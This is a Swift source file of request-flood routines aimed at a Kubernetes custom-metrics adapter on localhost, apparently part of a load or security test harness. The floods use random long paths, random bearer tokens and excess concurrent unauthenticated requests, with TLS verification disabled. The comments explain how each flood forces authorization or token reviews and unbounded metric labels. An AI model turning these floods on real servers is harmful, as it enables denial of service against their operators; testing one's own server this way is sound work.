import AsyncHTTPClient
import Foundation
import NIOCore
import NIOSSL

/// Request floods without valid credentials, over keep-alive HTTPS connections (no client
/// certificate): `concurrency` workers, each sending its next request as soon as the last
/// is answered, until the deadline or the operation limit.
enum AttackFloods {
    /// The metric path prefix the floods aim at.
    static let metricsPrefix = "/apis/custom.metrics.k8s.io/v1beta2/namespaces"

    /// Long random `/apis/...` paths (`bytes` long, distinct per request) without
    /// credentials: each is a new anonymous SubjectAccessReview and, unbounded, a new
    /// request-metric label.
    static func pathFlood(
        port: Int, concurrency: Int, bytes: Int, until deadline: ContinuousClock.Instant, tally: AttackTally,
        group loops: any EventLoopGroup
    ) async {
        let head = "\(metricsPrefix)/default/services/"
        let filler = String(repeating: "a", count: max(0, bytes - head.utf8.count - 16 - "/kuard_rps".utf8.count))
        await flood(port: port, concurrency: concurrency, until: deadline, tally: tally, group: loops) {
            HTTPClientRequest(url: "https://127.0.0.1:\(port)\(head)\(randomHex(16))\(filler)/kuard_rps")
        }
    }

    /// Distinct random bearer tokens (`bytes` long) on the legitimate metric path: each one
    /// the TokenReview cache has not seen, so a TokenReview to the API server.
    static func tokenFlood(
        port: Int, path: String, concurrency: Int, bytes: Int, until deadline: ContinuousClock.Instant, tally: AttackTally,
        group loops: any EventLoopGroup
    ) async {
        await flood(port: port, concurrency: concurrency, until: deadline, tally: tally, group: loops) {
            var request = HTTPClientRequest(url: "https://127.0.0.1:\(port)\(path)")
            request.headers.add(name: "Authorization", value: "Bearer \(randomHex(max(16, bytes)))")
            return request
        }
    }

    /// Many concurrent unauthenticated requests that look like an HPA's (metric paths in
    /// random namespaces and objects, each a new anonymous SubjectAccessReview): more than
    /// `--max-requests-inflight` at once.
    static func inflightFlood(
        port: Int, concurrency: Int, until deadline: ContinuousClock.Instant, tally: AttackTally, group loops: any EventLoopGroup
    ) async {
        await flood(port: port, concurrency: concurrency, until: deadline, tally: tally, group: loops) {
            HTTPClientRequest(url: "https://127.0.0.1:\(port)\(metricsPrefix)/ns-\(randomHex(8))/services/svc-\(randomHex(8))/kuard_rps")
        }
    }

    /// Runs the workers until `deadline` (requests still in flight then are cancelled) or
    /// until `tally` refuses more operations.
    static func flood(
        port: Int, concurrency: Int, until deadline: ContinuousClock.Instant, tally: AttackTally, group loops: any EventLoopGroup,
        request makeRequest: @escaping @Sendable () -> HTTPClientRequest
    ) async {
        var tls = TLSConfiguration.makeClientConfiguration()
        tls.certificateVerification = .none
        var configuration = HTTPClient.Configuration(tlsConfiguration: tls)
        configuration.httpVersion = .http1Only
        configuration.connectionPool = .init(idleTimeout: .seconds(60), concurrentHTTP1ConnectionsPerHostSoftLimit: max(1, concurrency))
        configuration.timeout = .init(connect: .seconds(10), read: .seconds(30))
        let client = HTTPClient(eventLoopGroupProvider: .shared(loops), configuration: configuration)
        await withTaskGroup(of: Void.self) { group in
            group.addTask { try? await Task.sleep(until: deadline) }
            for _ in 0..<max(1, concurrency) {
                group.addTask {
                    while ContinuousClock.now < deadline, !Task.isCancelled, tally.begin() {
                        do {
                            let response = try await client.execute(makeRequest(), timeout: .seconds(30))
                            _ = try await response.body.collect(upTo: 4 << 20)
                            tally.record(String(response.status.code))
                        } catch {
                            if Task.isCancelled || ContinuousClock.now >= deadline {
                                tally.record("in flight at the end")
                                break
                            }
                            tally.record(AttackLegitimateClient.describe(error))
                        }
                    }
                }
            }
            // The sleeper ends first unless every worker ran out of operations.
            _ = await group.next()
            group.cancelAll()
        }
        try? await client.shutdown()
    }
}
